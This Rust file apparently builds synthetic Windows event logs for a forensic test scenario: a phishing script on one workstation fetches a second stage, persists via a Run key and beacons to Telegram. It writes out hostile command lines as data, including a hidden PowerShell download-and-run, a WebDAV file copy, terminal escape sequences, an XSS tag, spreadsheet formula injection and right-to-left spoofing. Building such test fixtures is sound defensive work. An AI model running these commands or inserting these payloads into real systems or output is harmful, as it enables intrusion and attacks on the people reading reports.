//! FIN-WS07, the one machine that was broken into.
//!
//! On the evening of 3 March a script opened from a mail queries pastebin.com; that part is in a
//! log that was archived since. The next morning the script, which still runs, starts PowerShell,
//! which fetches a second stage. This settles below AppData and reports to a Telegram bot for
//! hours. Most of it lies after the first chunk, which is the only one that the log's header counts.
//!
//! Explorer started Outlook, Outlook the script, the script PowerShell, PowerShell `winsync.exe`,
//! and this `cmd.exe`. Explorer was started before the logs begin.

use crate::error::Error;
use crate::event::Event;
use crate::log::LogWriter;
use crate::record::Style;
use crate::story::journal::{EXPLORER, Journal, Log, OFFICE, SYSMON_LOG, evening, morning};
use crate::story::machine::Process;
use crate::truth::SampleFile;

const HOST: &str = "FIN-WS07";
const USER: &str = "m.keller";
const ARCHIVE: &str = "Archive-Microsoft-Windows-Sysmon%4Operational-2025-03-03-19-40-12-501.evtx";

const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const WSCRIPT: &str = r"C:\Windows\System32\wscript.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const IMPLANT: &str = r"C:\Users\m.keller\AppData\Roaming\WinSync\winsync.exe";
const MARKUP: &str = r"C:\Users\Public\<script>alert(1)</script>.exe";

const ATTACHMENTS: &str =
    r"C:\Users\m.keller\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7QK2M1XA\";
const ATTACHMENT: &str =
    r"C:\Users\m.keller\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7QK2M1XA\Invoice.js";
/// The arguments with which PowerShell fetches the second stage and starts it.
const FETCH: &str = "-nop -w hidden -c \"$f = $env:APPDATA + '\\WinSync\\winsync.exe'; \
                     iwr https://pastebin.com/raw/Xy12Ab34 -OutFile $f; & $f /quiet\"";
const COPY: &str =
    r"C:\Windows\system32\cmd.exe /c copy /y \\cdn.discordapp.com@SSL\DavWWWRoot\118\s.dat %TEMP%";
/// Arguments that are meant to harm a terminal, a browser, a spreadsheet and a reader: escape
/// sequences, markup, a formula, and letters that turn the direction of reading.
const HARMFUL: &str = "\u{1b}[2J\u{1b}]0;owned\u{7} <img src=x onerror=alert(1)> \
                       =cmd|' /C calc'!A0 \u{202e}fdp.exe\u{202c}\t`tick`\r\n--end";

const PASTEBIN: &str = "::ffff:203.0.113.10;::ffff:203.0.113.11;";
const TELEGRAM: &str = "2001:db8::4:220;::ffff:203.0.113.220;";

pub(super) fn files() -> Result<Vec<SampleFile>, Error> {
    let evening = Evening::new()?;
    let sysmon = sysmon_log(&evening)?;
    Ok(vec![evening.file, sysmon, security_log()?, system_log()?, application_log()?])
}

/// The log of the evening before, and what is left of the evening the next day.
struct Evening {
    file: SampleFile,
    journal: Journal,
    script: Process,
}

impl Evening {
    /// Makes the log of the evening before. An archived log has the layout of the live log that it
    /// was, but was closed properly.
    fn new() -> Result<Self, Error> {
        let writer = LogWriter::new(Style::Live).dirty(false).stale_header(false).first_number(88_101);
        let mut log = Log::new("evidence", HOST, ARCHIVE, writer, Style::Live);
        let mut journal = Journal::new(HOST, USER, evening(), 88_101);
        let explorer = journal.running(EXPLORER, 4880);
        let outlook = journal.start_between(1_800, &explorer, creation(OFFICE, &quoted(OFFICE), 7464));
        journal.set_running(&outlook);
        journal.routine(38);
        journal.add_between(20_000, &outlook, Event::file_create(OFFICE, ATTACHMENT));
        let command_line = format!("{} \"{ATTACHMENT}\"", quoted(WSCRIPT));
        let script = journal.start(40, &outlook, creation(WSCRIPT, &command_line, 5832));
        journal.add_of(2, &script, Event::dns_query("pastebin.com", WSCRIPT).answered("0", PASTEBIN));
        journal.add_of(1, &script, Event::network_connection(WSCRIPT, "203.0.113.10", 443));
        journal.routine(24);
        log.push(journal.take())?;
        Ok(Self { file: log.finish(), journal, script })
    }
}

/// Makes the log of the next day. The script of the evening still runs, and goes on.
fn sysmon_log(evening: &Evening) -> Result<SampleFile, Error> {
    let mut log = Log::live("evidence", HOST, SYSMON_LOG);
    let mut journal = Journal::new(HOST, USER, morning(), 88_166).continuing(&evening.journal);
    log.writer = LogWriter::new(Style::Live).first_number(journal.next_record_id());
    journal.routine(60);
    let stage = SecondStage::start(&mut journal, &evening.script);
    journal.routine(55);
    beacon(&mut journal, &stage.implant);
    hostile_strings(&mut journal, &stage);
    journal.routine(40);
    log.push(journal.take())?;
    Ok(log.finish())
}

/// The processes of the attack's second stage that stay.
struct SecondStage {
    implant: Process,
    /// A second PowerShell. Its creation is missing in the log.
    powershell: Process,
}

impl SecondStage {
    /// Adds the events of the second stage: PowerShell fetches it and starts it. The script that
    /// started PowerShell ends.
    fn start(journal: &mut Journal, script: &Process) -> Self {
        let command_line = format!("{} {FETCH}", quoted(POWERSHELL));
        let powershell = journal.start(12, script, creation(POWERSHELL, &command_line, 9044));
        let query = Event::dns_query("pastebin.com", POWERSHELL).answered("0", PASTEBIN);
        journal.add_of(1, &powershell, query);
        journal.add_of(1, &powershell, Event::network_connection(POWERSHELL, "203.0.113.10", 443));
        journal.add_of(3, &powershell, Event::file_create(POWERSHELL, IMPLANT));
        let command_line = format!("{} /quiet", quoted(IMPLANT));
        let implant = journal.start(1, &powershell, creation(IMPLANT, &command_line, 9120));
        journal.add_between(900, &powershell, Event::process_terminate(POWERSHELL));
        journal.add_between(1_400, script, Event::process_terminate(WSCRIPT));
        let run = r"HKU\Software\Microsoft\Windows\CurrentVersion\Run\WinSync";
        journal.add_of(5, &implant, Event::registry_value(IMPLANT, run, IMPLANT));
        let query = |name| Event::dns_query(name, IMPLANT);
        journal.add_of(8, &implant, query("t.me").answered("0", "::ffff:203.0.113.99;"));
        // The same name is queried twice more: once the query fails, once a second process makes it.
        journal.add_of(4, &implant, query("t.me").answered("1460", "-"));
        let unlogged = creation(POWERSHELL, "powershell.exe -nop -w hidden -enc SQBFAFgA", 9188);
        let powershell = journal.start_unlogged(5_000, &implant, unlogged);
        let query = Event::dns_query("Pastebin.com", POWERSHELL).answered("0", PASTEBIN);
        journal.add_of(9, &powershell, query);
        Self { implant, powershell }
    }
}

/// Adds the events of the implant, which reports every half hour and runs a command or two.
fn beacon(journal: &mut Journal, implant: &Process) {
    for round in 0_u32..6 {
        let query = Event::dns_query("api.telegram.org", IMPLANT).answered("0", TELEGRAM);
        journal.add_of(1500, implant, query);
        journal.add_of(1, implant, Event::network_connection(IMPLANT, "203.0.113.220", 443));
        if round == 3 {
            let shell = journal.start(2, implant, creation(CMD, COPY, 9904));
            journal.add_of(
                1,
                &shell,
                Event::dns_query("cdn.discordapp.com", CMD)
                    .answered("0", "::ffff:203.0.113.130;::ffff:203.0.113.131;"),
            );
            journal.add_between(1_700, &shell, Event::process_terminate(CMD));
        }
        journal.routine(22);
    }
}

/// Adds DNS queries for names, and a process creation with a command line, that are meant to harm
/// whoever reads the report.
fn hostile_strings(journal: &mut Journal, stage: &SecondStage) {
    let query = Event::dns_query("\u{1b}[2J\u{1b}[31mpastebin.com\u{7}", POWERSHELL).answered("123", "-");
    journal.add_of(20, &stage.powershell, query);
    let hostile = creation(MARKUP, &format!("=HYPERLINK(\"{MARKUP}\") {HARMFUL}"), 9960);
    let markup = journal.start_between(4_000, &stage.implant, hostile);
    journal.add_of(11, &markup, Event::dns_query("discord.gg", MARKUP).answered("9003", "-"));
    let query = Event::dns_query("=cmd|' /C calc'!A0", IMPLANT).answered("9560", "-");
    journal.add_of(6, &stage.implant, query);
    journal.add_between(1_200, &markup, Event::process_terminate(MARKUP));
    journal.add_between(1_500, &stage.powershell, Event::process_terminate(POWERSHELL));
}

/// Makes the creation of a process that its parent starts in the folder of the mail's attachments.
fn creation(image: &str, command_line: &str, process_id: u32) -> Event {
    let directory = if image == OFFICE { r"C:\Users\m.keller\" } else { ATTACHMENTS };
    Event::process_create(image, command_line, "-").of_process(process_id).with("CurrentDirectory", directory)
}

fn quoted(image: &str) -> String {
    format!("\"{image}\"")
}

fn security_log() -> Result<SampleFile, Error> {
    let mut log = Log::live("evidence", HOST, "Security.evtx");
    let mut journal = Journal::new(HOST, USER, morning(), 410_220);
    journal.audit(30);
    // Security 4688 has the command line, too, but is no DNS query.
    journal.add(
        9,
        Event::audited_process(POWERSHELL, "powershell.exe -c iwr https://pastebin.com/raw/Xy12Ab34"),
    );
    journal.audit(30);
    log.push(journal.take())?;
    Ok(log.finish())
}

fn system_log() -> Result<SampleFile, Error> {
    let mut log = Log::live("evidence", HOST, "System.evtx");
    let mut journal = Journal::new(HOST, USER, morning(), 15_602);
    journal.services(40);
    log.push(journal.take())?;
    Ok(log.finish())
}

fn application_log() -> Result<SampleFile, Error> {
    let mut log = Log::live("evidence", HOST, "Application.evtx");
    let mut journal = Journal::new(HOST, USER, morning(), 7_410);
    for session in 0..12 {
        let time = journal.time();
        journal.add(1900, Event::restart_session(session, time));
    }
    log.push(journal.take())?;
    Ok(log.finish())
}
